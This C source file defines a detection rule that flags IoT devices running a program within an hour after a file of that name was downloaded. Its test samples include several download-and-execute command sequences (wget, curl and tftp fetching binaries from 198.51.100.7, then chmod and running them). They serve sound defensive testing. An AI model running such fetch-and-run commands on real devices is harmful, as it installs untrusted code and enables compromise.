#include "detect/command_facts.h"
#include "detect/rule.h"

#define REMEMBERED_US HOURS_US(1) /* from the download to the run */

static bool is_of_the_system(struct text path)
{
    return text_starts(path, TEXT("/usr/")) || text_starts(path, TEXT("/bin/")) || text_starts(path, TEXT("/sbin/"));
}

/* Paths are written in several ways, "./x" after a cd: the file's name is what the two have in common. What one line downloads and runs
 * itself is another detection's. */
static void judge(struct judging *judging)
{
    const struct command_line *line = judging->line;
    const struct event *event = judging->event;
    struct text source, target;
    bool told = !memory_knows(judging->memory, judging->rule->id, TEXT("files")); /* nothing was downloaded: nothing to tell */

    for (size_t i = 0; i < line->count && !told; i++) {
        const struct command *command = &line->commands[i];
        struct text script = command_script(command), run = script.bytes ? script : command->path, name = event_base_name(run);
        bool somewhere = run.count > name.count; /* it is named with its folder, so it is no command of the system's */
        if (!name.count || !somewhere || is_of_the_system(run) || command_downloads(command, &source, &target) ||
            !memory_has(judging->memory, judging->rule->id, TEXT("files"), name, event->at_us, REMEMBERED_US))
            continue;
        struct finding *finding = finding_add(judging, name);
        finding_reason(finding, "CommandLine", TEXT("what is run was downloaded within the last hour"), line->text);
        finding_entity(finding, FINDING_FILE, run);
        told = true;
    }
    for (size_t i = 0; i < line->count; i++)
        if (command_downloads(&line->commands[i], &source, &target) && target.count)
            memory_note(judging->memory, judging->rule->id, TEXT("files"), event_base_name(target), 1, event->at_us, REMEMBERED_US);
}

static const struct rule_sample samples[] = {
    {true, "$ wget -O /tmp/kworkerd http://198.51.100.7/k\n+5 $ chmod +x /tmp/kworkerd\n+5 $ /tmp/kworkerd"},
    {true, "$ tftp -g -r mips.bin 198.51.100.7\n+20 $ ./mips.bin"},
    {true, "$ curl -o /var/tmp/i.sh http://198.51.100.7/i.sh\n$ sh /var/tmp/i.sh"},
    {false, "$ wget -O /tmp/catalog.json https://example.org/catalog.json\n$ cat /tmp/catalog.json"},
    {false, "$ wget -O /tmp/tool http://198.51.100.7/tool\n+4000 $ /tmp/tool"},
    {false, "$ /tmp/tool"},
    {false, "$ sh -c 'wget -O /tmp/x http://198.51.100.7/x; sh /tmp/x'"},
};

const struct rule rule_backdoor = {
    .id = "IoT_LinuxBackdoor",
    .title = "A file was downloaded, then run",
    .severity = "Medium",
    .tactics = "Persistence, Execution, CommandAndControl",
    .techniques = "T1105, T1204.002, T0867",
    .fires = "A program or script run by its path within an hour after a file of that name was downloaded on the device.",
    .spares = "Downloads that are only read; programs of the system's own folders.",
    .needs = "Processes with their command lines.",
    .tuning = "An exception for the device's own updater.",
    .remediation = rule_ask_user,
    .kinds = EVENT_BIT(EVENT_PROCESS),
    .remembers = true,
    .judge = judge,
    RULE_SAMPLES(samples),
};
